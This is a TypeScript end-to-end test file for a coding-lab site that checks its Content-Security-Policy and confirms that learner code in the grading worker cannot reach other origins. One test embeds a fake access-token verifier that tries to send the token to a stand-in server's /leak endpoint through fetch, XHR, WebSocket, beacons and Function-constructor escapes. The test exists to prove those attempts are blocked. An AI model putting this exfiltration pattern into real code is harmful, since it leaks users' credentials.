import { readdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { findLabPage, openLab, pasteCode, runChecks } from './lab-ui/lab-page';
import { launchChromium, startSite, type SiteServer } from './support';
import { PATIENCE_MS } from './support/patience';

const LAB = 'verify-access-token';
const { distDir } = inject('e2eSite');
let site: SiteServer;
let browser: Browser;
let elsewhere: Server;
let elsewhereOrigin = '';
const elsewhereHits: string[] = [];

beforeAll(async () => {
  site = await startSite();
  browser = await launchChromium();
  // Another origin on loopback that would answer anything: learner code must never reach it.
  elsewhere = createServer((req, res) => {
    elsewhereHits.push(req.url ?? '');
    res.writeHead(200, { 'access-control-allow-origin': '*' }).end('reached');
  });
  await new Promise<void>((done) => elsewhere.listen(0, '127.0.0.1', done));
  elsewhereOrigin = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
  await new Promise((done) => elsewhere?.close(done));
});

function headerPolicy(): string {
  const line = readFileSync(join(distDir, '_headers'), 'utf8')
    .split('\n')
    .find((l) => l.trim().startsWith('Content-Security-Policy:'));
  if (!line) throw new Error('dist/_headers has no Content-Security-Policy');
  return line.trim().slice('Content-Security-Policy:'.length).trim();
}

describe('the content security policy', () => {
  it('is on every page as a meta tag, identical to the header policy but for frame-ancestors', () => {
    const expected = headerPolicy()
      .split('; ')
      .filter((d) => !d.startsWith('frame-ancestors'))
      .join('; ');
    const pages = readdirSync(distDir, { recursive: true, encoding: 'utf8' }).filter((f) =>
      f.endsWith('.html'),
    );
    expect(pages.length).toBeGreaterThan(10);
    for (const page of pages) {
      const html = readFileSync(join(distDir, page), 'utf8');
      const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html);
      expect(meta?.[1], page).toBe(expected);
      expect(html.indexOf('http-equiv="Content-Security-Policy"'), page).toBeLessThan(
        html.search(/<script/i) >>> 0,
      );
    }
    expect(expected).toContain("connect-src 'self'");
    expect(expected).toContain("worker-src 'self' blob:");
  });

  it('reaches the grading worker through its own response headers', async () => {
    const worker = readdirSync(join(distDir, '_astro')).find((f) => /^lab\.worker.*\.js$/.test(f));
    expect(worker).toBeDefined();
    const response = await fetch(site.url(`_astro/${worker}`));
    expect(response.headers.get('content-security-policy')).toBe(headerPolicy());
  });

  it('lets learner code in the worker reach no other origin, by any API', async () => {
    const target = `${elsewhereOrigin}/leak?token=`;
    const code = `import type { JWTPayload } from 'jose';
export function createAccessTokenVerifier(config: { issuer: string; audience: string; jwksUri: string }) {
  return async (token: string): Promise<JWTPayload> => {
    const g = globalThis as any;
    const target = ${JSON.stringify(target)} + encodeURIComponent(token);
    const tries: Promise<unknown>[] = [];
    const attempt = (how: string, f: () => unknown) => {
      try { const r = f(); if (r && typeof (r as any).then === 'function') tries.push(r as Promise<unknown>); }
      catch (e) { console.log(how + ' refused: ' + String(e)); }
    };
    attempt('fetch', () => fetch(target + '&via=fetch'));
    attempt('XMLHttpRequest', () => { const x = new g.XMLHttpRequest(); x.open('GET', target + '&via=xhr'); x.send(); });
    attempt('WebSocket', () => new g.WebSocket(target.replace('http', 'ws') + '&via=ws'));
    attempt('EventSource', () => new g.EventSource(target + '&via=sse'));
    attempt('importScripts', () => g.importScripts(target + '&via=importScripts'));
    attempt('sendBeacon', () => g.navigator.sendBeacon(target + '&via=beacon'));
    attempt('Function', () => g.Function('return fetch')()(target + '&via=function'));
    attempt('constructor escape', () => (async () => {}).constructor('return globalThis.fetch')()(target + '&via=ctor'));
    await Promise.allSettled(tries);
    throw new Error('every way out was closed');
  };
}
`;
    const context = await browser.newContext({ serviceWorkers: 'block' });
    context.setDefaultTimeout(PATIENCE_MS);
    const page = await context.newPage();
    try {
      await openLab(page, site.url(findLabPage(distDir, LAB)), LAB);
      await pasteCode(page, LAB, code);
      const { status } = await runChecks(page, LAB);
      expect(status).toBe('completed');
      // Give anything that slipped out time to land.
      await page.waitForTimeout(1500);
      expect(elsewhereHits).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
